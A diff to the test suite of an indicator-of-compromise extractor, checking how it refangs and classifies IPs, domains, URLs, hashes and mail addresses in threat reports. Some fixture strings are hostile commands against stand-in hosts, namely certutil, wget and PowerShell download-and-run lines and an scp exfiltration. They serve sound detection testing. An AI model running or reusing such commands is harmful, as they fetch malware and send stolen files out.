@@ -138,7 +138,7 @@ suite('scanText: context beats regex', () => {
 		assert.equal('range: 45.9.148[.]0/24.'.slice(m.start, m.end), '45.9.148[.]0/24');
 	});
 	test('an IPv6 address may end a sentence; a dot that goes on into a word or an address is not its end', () => {
-		assert.deepEqual(found('Beacons went to 2001:db8:1::2. Then fe80::1.\nAlso 2001[:]db8[:]1[:][:]3.'), ['ipv6 2001:db8:1::2', 'ipv6 fe80::1', 'ipv6 2001:db8:1::3']);
+		assert.deepEqual(found('Beacons went to 2001:db8:1::2. Then 2a01:4f8::1.\nAlso 2001[:]db8[:]1[:][:]3.'), ['ipv6 2001:db8:1::2', 'ipv6 2a01:4f8::1', 'ipv6 2001:db8:1::3']);
 		const m = one('to 2a03[:]2880[:]f12f[:]83[:]face[:]b00c[:]0[:]25de.');
 		assert.equal('to 2a03[:]2880[:]f12f[:]83[:]face[:]b00c[:]0[:]25de.'.slice(m.start, m.end), '2a03[:]2880[:]f12f[:]83[:]face[:]b00c[:]0[:]25de');
 		assert.deepEqual(found('times 10:30:00. and fe80::1.example and ::ffff:1.2'), []);
@@ -158,7 +158,7 @@ suite('scanText: context beats regex', () => {
 	});
 	test('the tail of a longer colon-separated run (a certificate serial or fingerprint) is no IPv6 address', () => {
 		assert.deepEqual(found('Serial: 0c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:30:39\nThumbprint 5a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9:0a:1b:2c:3d'), []);
-		assert.deepEqual(found('C2 2001:db8::1 and fe80::1:2'), ['ipv6 2001:db8::1', 'ipv6 fe80::1:2']);
+		assert.deepEqual(found('C2 2001:db8::1 and 2a01:4f8::1:2'), ['ipv6 2001:db8::1', 'ipv6 2a01:4f8::1:2']);
 	});
 	test('in a report that defangs, a live link to an address is still an indicator; a live link to a host is a citation', () => {
 		assert.deepEqual(roles('C2 evil190[.]com. Then wget http://45.9.148.62/bins/x86; see https://www.vendor-research.com/blog'), [
@@ -365,5 +365,142 @@ suite('scanText: large texts (scanned in chunks)', () => {
 			const o = one[i % one.length];
 			assert.deepEqual([m.type, m.value, m.start, m.end, m.raw, m.defanged], [o.type, o.value, o.start + k * block.length, o.end + k * block.length, o.raw, o.defanged]);
 		});
+	});
+});
+
+suite('scanText: pasted API output, detection content and mail headers', () => {
+	test("JSON's escaped slashes (abuse.ch's APIs) read as the link they escape", () => {
+		const text = '"url": "http:\\/\\/103.145.13.92\\/bins\\/mozi.m",\n"ioc": "https:\\/\\/secure-login.portal-verify.top\\/wp-admin\\/x.php"';
+		assert.deepEqual(found(text), ['url http://103.145.13.92/bins/mozi.m', 'url https://secure-login.portal-verify.top/wp-admin/x.php']);
+		assert.equal(scanText(text)[0].raw, 'http:\\/\\/103.145.13.92\\/bins\\/mozi.m');
+	});
+	test('full-width defangs typed by an input method are refanged', () => {
+		assert.deepEqual(found('C2 hxxp：//fw-colon[.]top/a, http：//fw2.top/b, fw-bracket［.］top, fw（.）top'), [
+			'url http://fw-colon.top/a',
+			'url http://fw2.top/b',
+			'domain fw-bracket.top',
+			'domain fw.top',
+		]);
+		// A full-width colon alone is punctuation, no defang: the live link after it stays an indicator.
+		assert.deepEqual(roles('C2：evil.top, https://evil.top/x'), ['indicator evil.top', 'indicator https://evil.top/x']);
+	});
+	test('a live link a command fetches or a rule matches is a payload even in a report that defangs', () => {
+		const text = [
+			'C2: update-cdn[.]top',
+			'certutil.exe -urlcache -split -f http://files.xred-update.site/load.exe %TEMP%\\load.exe',
+			'wget http://dl.kinsing-mirror.xyz/kinsing -O /tmp/kinsing',
+			'IEX (New-Object Net.WebClient).DownloadString("https://evil-ps.top/a.ps1")',
+			'"pattern": "[url:value = \'https://files.dropmefiles.top/d/abc123\']"',
+			'$u = "http://moolin.ru/index.php?id="',
+			"c-uri|contains: 'https://paste-bin-raw.xyz/raw/'",
+			'<Content type="string">http://apt-c2-live.net/index.asp</Content>',
+			'Read https://blog.vendor-research.com/post and the PHP manual https://docs.evil-free.org/x',
+		].join('\n');
+		assert.deepEqual(roles(text), [
+			'indicator update-cdn.top',
+			'indicator http://files.xred-update.site/load.exe',
+			'indicator http://dl.kinsing-mirror.xyz/kinsing',
+			'indicator https://evil-ps.top/a.ps1',
+			'indicator https://files.dropmefiles.top/d/abc123',
+			'indicator http://moolin.ru/index.php?id=',
+			'indicator https://paste-bin-raw.xyz/raw/',
+			'indicator http://apt-c2-live.net/index.asp',
+			'reference https://blog.vendor-research.com/post',
+			'reference https://docs.evil-free.org/x',
+		]);
+	});
+	test("a mail header's message ids are no mailboxes; its senders are", () => {
+		const text = [
+			'Message-ID: <CAF1234@mail.gmail.com>',
+			'In-Reply-To: <335140558.5692.1601907623511.JavaMail.zimbra@infoclub.com.np>',
+			'References: <a1@x-sender.com> <b2@mail.evilsender.top>',
+			'From: "Bob" <bob@evilsender.top>',
+		].join('\n');
+		assert.deepEqual(found(text), ['email bob@evilsender.top']);
+	});
+	test('a login with ssh or scp names the server, no mailbox', () => {
+		assert.deepEqual(found('ssh -i key admin@jump.evil-ssh.top\nscp loot.tgz root@exfil.evil-ssh.top:/tmp/\nmail admin@evil-ssh.top'), [
+			'domain jump.evil-ssh.top',
+			'domain exfil.evil-ssh.top',
+			'email admin@evil-ssh.top',
+		]);
+	});
+	test("databases' connection strings are links", () => {
+		assert.deepEqual(found('postgres://admin:pw@db.evil-pg.top:5432/loot mongodb+srv://u:p@cluster0.evil-mongo.top/x'), [
+			'url postgres://admin:pw@db.evil-pg.top:5432/loot',
+			'url mongodb+srv://u:p@cluster0.evil-mongo.top/x',
+		]);
+	});
+	test('an address and port with a no-break space before "port"', () => {
+		assert.deepEqual(found('1.2.3[.]5\u00a0port 443'), ['ip_port 1.2.3.5:443']);
+	});
+});
+
+suite('scanText: values that are no indicators', () => {
+	test('loopback, unspecified, link-local and multicast addresses are no one\'s server', () => {
+		const text = [
+			'127.0.0.1 hostfile-two.xyz',
+			'0.0.0.0 hostfile-three.online',
+			'Listening on 0.0.0.0:4444; Tor at 127[.]0.0[.]1:9050; metadata 169.254.169.254; mDNS 224.0.0.251',
+			'fe80::1c2d:3e4f:5a6b:7c8d%eth0 ff02::1:2 [::1]:80 ::ffff:127.0.0.1 127.0.0.0/8 255.255.255.255',
+			'proxy=http://127.0.0.1:8080/x',
+			'C2 10.1.2.3:445 45.9.148.80 2001:db8:85a3::8a2e:370:7334 [2a01:4f8::1]:443 185.220.101.0/24',
+		].join('\n');
+		assert.deepEqual(found(text), [
+			'domain hostfile-two.xyz',
+			'domain hostfile-three.online',
+			'ip_port 10.1.2.3:445',
+			'ipv4 45.9.148.80',
+			'ipv6 2001:db8:85a3::8a2e:370:7334',
+			'ip_port [2a01:4f8::1]:443',
+			'cidr 185.220.101.0/24',
+		]);
+	});
+	test('hex labelled as an import hash, a TLS fingerprint or a certificate thumbprint is no file hash', () => {
+		const text = [
+			'Imphash: f34d5f2d4577ed6d9ceec516c1f5a746',
+			'Hashes=SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A747',
+			'condition: pe.imphash() == "f34d5f2d4577ed6d9ceec516c1f5a744"',
+			'JA3: 72a589da586844d7f0818ce684948eea, JA3S 72a589da586844d7f0818ce684948eeb',
+			'Certificate serial 0a1b2c3d4e5f60718293a4b5c6d7e8f9; Thumbprint: 9a4c3f2e1d0b9a8c7d6e5f4a3b2c1d0e9f8a7b6a',
+			'MD5: 72a589da586844d7f0818ce684948eec',
+		].join('\n');
+		assert.deepEqual(found(text), ['sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'md5 72a589da586844d7f0818ce684948eec']);
+	});
+	test("log schema fields, rule buffers, namespaces and a script's variables are no domains", () => {
+		const text = [
+			'host.id process.name process.parent.name dns.question.name user.name file.name cloud.account.name',
+			'(http.host; content:"a"; file.name; ssh.software; file.data; dns.query.name;)',
+			'System.Net, System.IO, System.Security, self.name, args.host, location.host, $wc.download',
+			'exfiltrated to file.io, C2 at evil.name and update.host-cdn.site',
+		].join('\n');
+		assert.deepEqual(found(text), ['domain file.io', 'domain evil.name', 'domain update.host-cdn.site']);
+	});
+	test('dotted numbers after a version word of another language, a section word or an object-id label', () => {
+		const text = [
+			'La versión 2.0.0.1. A versão 2.0.0.2. La versione 2.0.0.3. Уязвима версия 6.4.0.0',
+			'受影响版本：1.2.3.4 バージョン 9.12.4.62 Dokumentversion 1.0.0.3',
+			'Kapitel 4.1.2.3, Abschnitt 3.2.1.4, chapter 8.3.1.1, appendix 8.3.1.5, EKU: 1.3.6.1, OID 2.5.29.37',
+			'C2 at 45.9.148.80 and a table of 45.9.148.81',
+		].join('\n');
+		assert.deepEqual(found(text), ['ipv4 45.9.148.80', 'ipv4 45.9.148.81']);
+	});
+	test("registrars, their name servers and privacy services in a WHOIS record are cited, not hunted", () => {
+		const text = [
+			'Registrar WHOIS Server: whois.namecheap.com',
+			'Registrar Abuse Contact Email: abuse@namecheap.com',
+			'Registrant Email: 2f9a77c1d0e@withheldforprivacy.com',
+			'Name Server: dns1.registrar-servers.com',
+			'Name Server: ns1.evil-ns.top',
+			'Sender: p3plsmtpa06-02.prod.phx3.secureserver.net',
+		].join('\n');
+		assert.deepEqual(roles(text), [
+			'reference whois.namecheap.com',
+			'reference abuse@namecheap.com',
+			'reference 2f9a77c1d0e@withheldforprivacy.com',
+			'reference dns1.registrar-servers.com',
+			'indicator ns1.evil-ns.top',
+			'indicator p3plsmtpa06-02.prod.phx3.secureserver.net',
+		]);
 	});
 });
